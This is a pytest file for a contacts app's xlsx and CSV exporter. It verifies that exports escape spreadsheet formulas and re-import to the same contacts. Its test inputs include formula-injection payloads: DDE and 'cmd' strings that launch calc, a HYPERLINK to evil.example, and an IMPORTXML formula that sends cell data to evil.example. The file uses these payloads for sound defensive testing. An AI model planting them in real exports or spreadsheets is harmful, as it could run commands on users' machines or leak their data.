"""Exports: readable xlsx and Excel-friendly CSV, formula cells neutralised, and exports
that re-import to the same contacts."""

from __future__ import annotations

import csv
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from waapp.app import Services
from waapp.core.errors import ValidationError
from waapp.core.ports import ContactQuery
from waapp.services.exporter import neutralise
from waapp.services.importer import ImportOptions

Run = Callable[[Callable[[Services], Awaitable[Any]]], Any]

DANGEROUS = {
    "Formula": '=HYPERLINK("http://evil.example","Click")',
    "Plus": "+cmd|' /C calc'!A0",
    "Minus": "-2+3+cmd|' /C calc'!A0",
    "At": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Dde": '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "Import": '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
}


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+917033009600", "+917033009600"),  # a lone number runs nothing: phones stay readable
        ("+91 70330 09600", "+91 70330 09600"),
        ("-12.5", "-12.5"),
        ("Asha", "Asha"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralise(value: str, safe: str) -> None:
    assert neutralise(value) == safe


async def seed(s: Services) -> dict[str, int]:
    asha = await s.contacts.add_contact(
        name="Asha Patel", phone="+917033009600", fields={"City": "Pune", "Tier": "Gold"}
    )
    ravi = await s.contacts.add_contact(
        name="Ravi 🌸 راوي",
        phone="+447911123456",
        fields={"Note": 'likes "quotes", commas\nand lines'},
    )
    sana = await s.contacts.add_contact(
        name="Sana", phone="+5511987654321", fields={"City": "São Paulo"}
    )
    await s.contacts.set_opt_out([sana.id], opted_out=True, reason="replied STOP")
    evil = await s.contacts.add_contact(
        name="=cmd|' /C calc'!A0", phone="+4915112345678", fields=DANGEROUS
    )
    group = await s.contacts.create_group("VIP")
    await s.contacts.add_to_group(group.id, [asha.id, ravi.id])
    return {"asha": asha.id, "ravi": ravi.id, "sana": sana.id, "evil": evil.id, "vip": group.id}


def comparable(contacts: list[Any]) -> dict[str, tuple[Any, ...]]:
    return {c.phone_e164: (c.name, c.fields, c.opted_out, c.opt_out_reason) for c in contacts}


async def everyone(s: Services) -> list[Any]:
    return await s.contacts.get_many(await s.contacts.ids(ContactQuery()))


def test_xlsx_is_readable_and_safe(tmp_path: Path, run_services: Run) -> None:
    path = tmp_path / "contacts.xlsx"

    async def body(s: Services) -> None:
        await seed(s)
        assert await s.exporter.export_contacts(path) == 4

    run_services(body)
    sheet = openpyxl.load_workbook(path).active
    headers = [c.value for c in sheet[1]]
    assert headers == [
        "Name",
        "Phone",
        "At",
        "City",
        "Dde",
        "Formula",
        "Import",
        "Minus",
        "Note",
        "Plus",
        "Tier",
        "Opted out",
        "Opt-out reason",
        "Last reply",
        "Added",
    ]
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert all((sheet.column_dimensions[letter].width or 0) >= 8 for letter in "ABCDEFGHIJKLMNO")
    rows = {
        row[1]: dict(zip(headers, row, strict=True))
        for row in sheet.iter_rows(min_row=2, values_only=True)
    }
    evil = rows["+4915112345678"]
    assert evil["Name"] == "'=cmd|' /C calc'!A0"
    for field_name, value in DANGEROUS.items():
        assert evil[field_name] == "'" + value
    assert all(
        cell.data_type != "f" for row in sheet.iter_rows() for cell in row
    )  # no formula anywhere
    assert (
        rows["+5511987654321"]["Opted out"] == "Yes"
        and rows["+5511987654321"]["Opt-out reason"] == "replied STOP"
    )
    assert rows["+917033009600"]["Added"] is not None


def test_csv_has_a_bom_and_is_safe(tmp_path: Path, run_services: Run) -> None:
    path = tmp_path / "contacts.csv"

    async def body(s: Services) -> None:
        await seed(s)
        assert await s.exporter.export_contacts(path) == 4

    run_services(body)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfName,Phone,")
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines(keepends=True)))
    evil = next(r for r in rows if r["Phone"] == "+4915112345678")
    assert evil["Name"].startswith("'=")
    assert all(evil[name] == "'" + value for name, value in DANGEROUS.items())
    assert not any(
        v.startswith(("=", "@"))
        or (v.startswith(("+", "-")) and not v[1:].replace(" ", "").isdigit())
        for r in rows
        for v in r.values()
    )


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_an_export_re_imports_to_the_same_contacts(
    tmp_path: Path, run_services: Run, suffix: str
) -> None:
    path = tmp_path / f"contacts{suffix}"
    exported: dict[str, Any] = {}

    async def export(s: Services) -> None:
        await seed(s)
        await s.exporter.export_contacts(path)
        exported.update(comparable(await everyone(s)))

    run_services(export)
    (tmp_path / "data" / "waapp.db").unlink()  # a fresh store on another computer

    async def reimport(s: Services) -> None:
        info = await s.importer.inspect(path)
        assert info.mapping is not None
        report = await s.importer.run(
            path,
            ImportOptions(
                sheet=info.sheet, header_row=info.header_row, mapping=info.mapping, region=None
            ),
        )
        assert (report.imported, report.invalid) == (4, 0)
        assert comparable(await everyone(s)) == exported

    run_services(reimport)


def test_a_group_or_a_selection(tmp_path: Path, run_services: Run) -> None:
    async def body(s: Services) -> None:
        ids = await seed(s)
        assert await s.exporter.export_contacts(tmp_path / "vip.csv", group_id=ids["vip"]) == 2
        assert (
            await s.exporter.export_contacts(
                tmp_path / "two.csv", contact_ids=[ids["sana"], ids["asha"], ids["sana"]]
            )
            == 2
        )

    run_services(body)
    vip = list(
        csv.DictReader(
            (tmp_path / "vip.csv").read_text(encoding="utf-8-sig").splitlines(keepends=True)
        )
    )
    assert {r["Phone"] for r in vip} == {"+917033009600", "+447911123456"}
    assert "At" not in vip[0]  # only the fields these contacts use
    two = list(
        csv.DictReader(
            (tmp_path / "two.csv").read_text(encoding="utf-8-sig").splitlines(keepends=True)
        )
    )
    assert [r["Name"] for r in two] == ["Sana", "Asha Patel"]  # in the order given


def test_import_report_export(tmp_path: Path, run_services: Run) -> None:
    source = tmp_path / "in.csv"
    source.write_text(
        "Name,Phone\nA,+917033009600\nB,123\nC,07033009600\n=evil(),+917033009601\n",
        encoding="utf-8",
    )

    async def body(s: Services) -> None:
        info = await s.importer.inspect(source)
        assert info.mapping is not None
        report = await s.importer.run(
            source,
            ImportOptions(
                sheet=info.sheet,
                header_row=info.header_row,
                mapping=info.mapping,
                region="IN",
                new_group_name="G",
            ),
        )
        assert await s.exporter.export_import_report(report, tmp_path / "report.xlsx") == 2
        assert await s.exporter.export_import_report(report, tmp_path / "report.csv") == 2
        with pytest.raises(ValidationError, match=r"\.xlsx or \.csv"):
            await s.exporter.export_import_report(report, tmp_path / "report.pdf")

    run_services(body)
    workbook = openpyxl.load_workbook(tmp_path / "report.xlsx")
    assert workbook.sheetnames == ["Import report", "Summary"]
    rows = list(workbook["Import report"].iter_rows(values_only=True))
    assert rows[0] == ("Row", "Result", "Phone as written", "Phone", "Name", "Reason")
    assert rows[1] == (3, "Invalid", "123", None, "B", "too short for India (123)")
    assert rows[2][:4] == (4, "Duplicate in file", "07033009600", "+917033009600")
    summary = dict(workbook["Summary"].iter_rows(min_row=2, values_only=True))
    assert summary["Imported (new contacts)"] == 2 and summary["Group"] == "G"
    text = (tmp_path / "report.csv").read_bytes()
    assert text.startswith(b"\xef\xbb\xbfRow,Result,")


def test_a_failed_export_leaves_no_half_file(tmp_path: Path, run_services: Run) -> None:
    async def body(s: Services) -> None:
        await seed(s)
        with pytest.raises(ValidationError, match="cannot be written to"):
            await s.exporter.export_contacts(tmp_path / "missing-folder" / "x.xlsx")
        with pytest.raises(ValidationError, match=r"not “\.txt”"):
            await s.exporter.export_contacts(tmp_path / "x.txt")

    run_services(body)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"]
